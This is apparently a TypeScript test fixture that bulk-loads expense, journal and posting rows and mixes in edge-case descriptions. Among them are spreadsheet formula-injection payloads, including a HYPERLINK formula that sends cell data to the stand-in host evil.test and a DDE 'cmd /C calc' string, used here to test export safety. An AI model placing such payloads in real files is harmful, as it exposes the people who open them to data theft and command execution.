import { openDatabase } from "../../db/open.ts";

/** What a sheet might take for a formula, what breaks lines and quotes, and what is written from the right. */
export const HOSTILE = [
  `=HYPERLINK("https://evil.test?"&A1,"Click")`,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  `a "quoted", comma; and\nnew line`,
  "שלום עולם",
  "مرحبا",
  "🎭 Fête — Übermut 👩‍👩‍👧",
  "_x0041_ & <b>",
  "\u0000\u0007\ud800 lone",
] as const;

/**
 * Rows as they are in use, and hostile ones among them: approved expenses of an organisation in four currencies, and
 * for every second one an entry of two lines. Past all triggers, as whoever owns the server.
 */
export async function addVolume(
  databaseUrl: string,
  whose: { organisationId: string; artistId: string; approverId: string },
  count: number,
): Promise<void> {
  await using database = openDatabase(databaseUrl, {
    name: "volume",
    seesEverybody: true,
    max: 1,
    statementTimeoutMs: 300_000,
  });
  const { sql } = database;
  const { organisationId, artistId, approverId } = whose;
  // A database has no NUL, and no half of a sign.
  const words = JSON.stringify(HOSTILE.map((one) => one.replaceAll("\u0000", "").toWellFormed()));
  await sql`set session_replication_role = replica`;
  await sql`
    insert into expenses (id, organisation_id, artist_id, amount_minor, currency, category, description, spent_on, status,
      submitted_at, decided_by, decided_at, functional_currency, functional_minor, payout_currency, payout_minor, version, tax_lines)
    select md5(${organisationId}::text || n)::uuid, ${organisationId}, ${artistId}, 100 + n,
      (array['EUR', 'JPY', 'KWD', 'USD'])[1 + n % 4], (array['Travel', 'Meals', 'Accommodation', 'Equipment'])[1 + n % 4],
      case when n % 50 = 0 then hostile.words[1 + n / 50 % ${HOSTILE.length}::int]
        else 'Taxi from the airport to the venue, ' || n end,
      current_date - (n % 300)::int, 'approved', now(), ${approverId}, now(), 'EUR', 100 + n, 'EUR', 100 + n, 2,
      case when n % 3 = 0 then jsonb_build_array(jsonb_build_object('rateMilli', 19000, 'netMinor', 84 + n, 'taxMinor', 16)) end
    from generate_series(1, ${count}::int) n,
      (select array_agg(value) as words from jsonb_array_elements_text(${words}::text::jsonb)) as hostile`;
  await sql`
    insert into accounts (organisation_id, code, name, kind) values (${organisationId}, '6000', 'Travel', 'expense'),
      (${organisationId}, '2100', 'Payable to artists', 'liability') on conflict do nothing`;
  await sql`
    insert into journal_entries (id, organisation_id, kind, source_id, entry_on, period, functional_currency)
    select md5('entry' || ${organisationId}::text || n)::uuid, ${organisationId}, 'expense', md5(${organisationId}::text || 2 * n)::uuid, current_date,
      to_char(current_date, 'YYYY-MM'), 'EUR' from generate_series(1, ${Math.floor(count / 2)}::int) n`;
  await sql`
    insert into postings (entry_id, position, organisation_id, period, account, currency, amount_minor, functional_minor)
    select md5('entry' || ${organisationId}::text || n)::uuid, p, ${organisationId}, to_char(current_date, 'YYYY-MM'), (array['6000', '2100'])[p + 1], 'EUR',
      (100 + n) * (1 - 2 * p), (100 + n) * (1 - 2 * p) from generate_series(1, ${Math.floor(count / 2)}::int) n, generate_series(0, 1) p`;
  await sql`reset session_replication_role`;
  await sql`analyze expenses, journal_entries, postings, accounts`;
}
